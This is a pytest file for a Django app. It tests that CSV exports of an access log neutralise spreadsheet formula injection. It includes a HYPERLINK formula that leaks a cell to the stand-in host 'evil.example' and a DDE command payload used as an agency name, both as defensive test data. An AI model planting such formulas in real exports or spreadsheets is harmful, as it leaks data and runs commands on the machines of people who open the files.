"""Item 18 (issue 11): CSV exports neutralise spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from apps.audit.services import access_record
from apps.core.csv_export import csv_safe_writer, safe_cell
from tests.conftest import client_for
from tests.factories import actor_of, involve, make_agency, make_member

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["lead involvement", "NB-000001", "a=b", " =1", "", None, -3,
                                   2.5])
def test_other_values_are_unchanged(value):
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_safe_writer(out).writerow([HYPERLINK, "plain", -1])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + HYPERLINK, "plain", "-1"]


@pytest.mark.django_db
def test_access_log_export_neutralises_formulas_in_free_text(world, shared_case):
    """Free text reaches the export as the basis, the agency name and the username."""
    evil_agency = make_agency(name="=cmd|' /C calc'!A0")
    involve(case=shared_case, manager=world.lead_manager, agency=evil_agency)
    evil_member = make_member(agency=evil_agency, username="-2+3")
    client_for(evil_member).get(reverse("cases:detail", args=[shared_case.pk]))
    access_record(actor=actor_of(world.lead_practitioner), object_type="case",
                  object_id=shared_case.pk, case_id=shared_case.pk, action="view",
                  basis=HYPERLINK)

    response = client_for(world.lead_admin).get(reverse("audit:access-log"), {"format": "csv"})

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    bases = {row["basis"] for row in rows}
    assert "'" + HYPERLINK in bases and HYPERLINK not in bases
    evil_rows = [row for row in rows if row["username"] == "'-2+3"]
    assert evil_rows and all(row["agency"] == "'=cmd|' /C calc'!A0" for row in evil_rows)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
